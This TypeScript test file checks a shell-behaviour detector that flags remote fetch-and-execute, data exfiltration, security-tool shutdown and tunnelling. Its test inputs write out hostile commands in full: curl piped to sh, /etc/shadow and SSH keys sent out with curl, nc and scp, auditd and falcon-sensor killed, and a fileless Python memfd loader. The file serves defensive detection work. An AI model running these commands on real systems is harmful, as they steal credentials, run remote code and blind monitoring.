import { describe, expect, test } from "vitest";
import { follow, followShell, kinds, script } from "./support.test-support.ts";

const kindsOf = (code: string): string => kinds(followShell(code)).join(" ");

describe("a variable in the place of a command", () => {
  test.each([
    ['E=""\n${E} "\\033[${INDENT}C${TEXT}text"', ""],
    ['E=""\n${E} "\\143\\165\\162\\154 is a text" | cat', ""],
    ["S=\ncurl -s http://192.0.2.7/x | $S sh", "fetch fetch-to-interpreter"],
    ["printf '\\033[1mbold' | sh", ""],
    ["printf '\\151\\144' | sh", "decode-to-interpreter"],
    ["$(base64 -d /srv/x)", "decode decode-to-interpreter"],
  ])("%s", (code, expected) => {
    expect(kindsOf(code)).toBe(expected);
  });
});

describe("words of a loop and of a function's calls", () => {
  const words = Array.from({ length: 40 }, (_, at) => `word${at}`).join(" ");
  const paths = Array.from({ length: 40 }, (_, at) => `/usr/share/doc/a${at}`).join(" ");

  test("the payload after forty dull words is found", () => {
    expect(kindsOf(`for c in ${words} 'curl -s http://192.0.2.7/x | sh'; do eval "$c"; done`)).toBe(
      "fetch fetch-to-interpreter",
    );
    const calls = words.split(" ").map((word) => `run ${word}`);
    expect(kindsOf(`run() { $1; }\n${calls.join("\n")}\nrun 'systemctl stop auditd'`)).toBe(
      "stops-security-unit",
    );
  });
  test("the address after forty paths is found", () => {
    expect(kindsOf(`for u in ${paths} http://192.0.2.7/x; do curl -s "$u" | sh; done`)).toContain("fetch");
  });
  test("the program after forty paths is found where the code runs it", () => {
    const followed = followShell(`for p in ${paths} /tmp/agent; do "$p"; done`);
    expect(followed.reached.map((entry) => entry.path)).toContain("/tmp/agent");
  });
  test("a loop over more words than are tried is a gap", () => {
    const many = Array.from({ length: 300 }, (_, at) => `http://192.0.2.7/${at}`).join(" ");
    const followed = followShell(`for u in ${many}; do curl -s "$u" | sh; done`);
    expect(followed.gaps.map((gap) => gap.reason)).toContain("a loop over more than 256 words");
  });
});

describe("paths known by a pattern", () => {
  const files = {
    "/etc/x.d/a": script("curl -s http://192.0.2.7/x | sh\n"),
    "/etc/x.d/b": script("true\n"),
  };
  test.each(["for f in /etc/x.d/*; do . $f; done", "for f in /etc/x.d/[a-c]; do $f; done", "sh /etc/x.d/*"])(
    "%s reads each file there and leaves no gap",
    (code) => {
      const followed = followShell(code, files);
      expect(kinds(followed)).toContain("fetch-to-interpreter");
      expect(followed.gaps).toEqual([]);
    },
  );
  test("no file there: nothing runs, nothing is unknown", () => {
    expect(followShell("for f in /etc/none.d/*; do . $f; done").gaps).toEqual([]);
  });
  test("find runs what it finds in a shared directory", () => {
    const followed = follow(
      ["/usr/bin/find", "/var/tmp/.d", "-name", "*.sh", "-exec", "/bin/sh", "{}", ";"],
      { "/var/tmp/.d/go.sh": script("curl -s http://192.0.2.7/x | sh\n") },
    );
    expect(kinds(followed)).toEqual(["fetch", "fetch-to-interpreter", "volatile-path"]);
  });
});

test("a long program of run-parts leaves room for the next", () => {
  const long = Array.from({ length: 9_000 }, (_, at) => `if test -e /srv/${at}; then f ${at}; fi`).join("\n");
  const followed = follow(["/usr/bin/run-parts", "/etc/cron.daily"], {
    "/etc/cron.daily/a": script(`#!/bin/sh\n${long.repeat(2)}\n`),
    "/etc/cron.daily/b": script("#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n"),
  });
  expect(followed.gaps.map((gap) => gap.path)).toContain("/etc/cron.daily/a");
  expect(kinds(followed)).toContain("fetch-to-interpreter");
});

describe("what leaves a host", () => {
  const sent = (code: string): unknown =>
    followShell(code).behaviours.find(({ kind }) => kind === "exfiltrates")?.detail.sent;
  test.each([
    ["curl -F f=@/etc/shadow http://192.0.2.7/", "secrets"],
    ["cat /etc/shadow | nc 192.0.2.7 80", "secrets"],
    ["cat /root/.ssh/id_rsa | ssh a@192.0.2.7 'cat > x'", "secrets"],
    ["scp /root/.bash_history a@192.0.2.7:", "secrets"],
    ["(id; uname -a) | curl --data-binary @- http://192.0.2.7/", "host-facts"],
    ["uname -a | nc 192.0.2.7 80", "host-facts"],
    ["rsync -a /srv/www/ a@web.example.test:/srv/www/", "data"],
    ["scp /etc/letsencrypt/live/a/privkey.pem deploy@web.example.test:", "data"],
    ["df -P | awk '{print $5}' | curl --data-binary @- https://metrics.example.test/", "data"],
    // Addresses, counts and sensors, which alerts and name services carry; and all that a command tells.
    ['curl -d "t=$(cat /sys/class/thermal/thermal_zone0/temp)" http://192.0.2.7/', "data"],
    ['curl -d "$(cat /sys/class/dmi/id/product_uuid)" http://192.0.2.7/', "host-facts"],
    ['ip=$(ip -6 -o addr show | head -n 1 | cut -d/ -f1); curl -d "ip=$ip" https://d.example.test/', "data"],
    ['ip=$(ip addr); curl -d "ip=$ip" https://d.example.test/', "host-facts"],
    ['curl -d "$(jq -n --arg ip x)" https://d.example.test/', "data"],
    ['curl -d "$(docker ps --filter health=unhealthy)" https://d.example.test/', "data"],
    ['curl -d "$(date; sudo /usr/bin/id)" https://d.example.test/', "host-facts"],
    ['k=$(cat /root/.ssh/id_rsa); curl -d "k=$k" https://d.example.test/', "secrets"],
    ['k=$(cat /srv/x); curl -d "k=$k" https://d.example.test/', "data"],
  ])("%s: %s", (code, expected) => {
    expect(sent(code)).toBe(expected);
  });
});

describe("single commands", () => {
  test.each([
    ['pkill -9 -f "falcon-sensor|auditd"', "kills-security-tool"],
    ["pkill -f '(nginx|apache2)'", ""],
    ["socat TCP:192.0.2.44:443 TCP:127.0.0.1:22", "tunnel"],
    ["socat - TCP:192.0.2.44:443", "network-ping"],
  ])("%s: %s", (code, expected) => {
    expect(kindsOf(code)).toBe(expected);
  });
  test("a fetched program run from memory", () => {
    const code =
      'import os,urllib.request as u;f=os.memfd_create("");os.write(f,u.urlopen("http://192.0.2.5/e").read());os.execv("/proc/self/fd/%d"%f,["x"])';
    const followed = follow(["/usr/bin/python3", "-c", code]);
    expect(kinds(followed)).toEqual(["fetch", "fetch-to-interpreter"]);
  });
});
